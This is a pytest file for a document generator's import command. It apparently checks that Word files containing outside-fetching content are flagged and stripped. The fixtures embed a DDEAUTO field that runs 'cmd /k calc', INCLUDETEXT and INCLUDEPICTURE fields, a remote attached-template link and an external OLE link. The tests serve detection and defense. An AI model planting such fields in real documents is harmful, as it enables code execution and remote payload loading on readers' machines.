"""A Word file from outside that fetches or runs something when Word opens it: said, and in no file that is built."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

import generator
from generator.commands.import_file import ImportOptions, import_file
from generator.commands.rendered import word_of
from generator.ooxml import package
from generator.reading.dossier import load_dossier
from tests.hostile_files import word
from tests.ooxml.strict_files import FORMER, zipped

R = f"{FORMER}/officeDocument/2006/relationships"
TEXT = "<w:p><w:r><w:t>Sở Mẫu gửi báo cáo.</w:t></w:r></w:p>"


def field(code: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (code[:3], code[3:]))
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return (
        f"<w:p>{mark.format('begin')}{runs}{mark.format('separate')}<w:r><w:t>KQ</w:t></w:r>{mark.format('end')}</w:p>"
    )


def linked(kind: str, target: str, of: str = "document") -> dict[str, str | bytes]:
    one = f'<Relationship Id="rId1" Type="{R}/{kind}" Target="{target}" TargetMode="External"/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return {f"word/_rels/{of}.xml.rels": f'<Relationships xmlns="{space}">{one}</Relationships>'}


OUTSIDE = {
    "DDEAUTO": word(TEXT + field('DDEAUTO cmd "/k calc"')),
    "INCLUDETEXT": word(TEXT + field('INCLUDETEXT "//may/chung/a.docx"')),
    "INCLUDEPICTURE": word(TEXT + field('INCLUDEPICTURE "http://x.test/a.png"')),
    "x.test/mau.dotm": word(TEXT)
    | {"word/settings.xml": "<settings/>"}
    | linked("attachedTemplate", "http://x.test/mau.dotm", "settings"),
    "may/a.xlsx": word(TEXT) | linked("oleObject", "file://may/a.xlsx"),
}


@pytest.mark.parametrize("what", OUTSIDE)
def test_what_a_file_fetches_is_said_and_not_carried_on(tmp_path: Path, what: str) -> None:
    file = tmp_path / "a.docx"
    file.write_bytes(zipped(OUTSIDE[what]))
    made = import_file(file, tmp_path / "moi", ImportOptions(date(2030, 1, 1)))
    (said,) = [finding for finding in made.findings if finding.code == "V381"]
    assert what in said.value and said.place.file == str(file)
    built = word_of(load_dossier(tmp_path / "moi")[0], date(2030, 1, 1))
    parts = package.read_bytes(built, shown_as="a.docx")
    assert not [name for name, data in parts.items() if what.encode() in data]
    assert "Sở Mẫu gửi báo cáo" in parts["word/document.xml"].decode()


def test_what_a_reader_follows_is_no_such_thing(tmp_path: Path) -> None:
    file = tmp_path / "a.docx"
    file.write_bytes(zipped(word(TEXT + field("PAGE")) | linked("hyperlink", "http://x.test/")))
    made = generator.import_file(file, tmp_path / "moi")
    assert "V381" not in {finding.code for finding in made.findings}
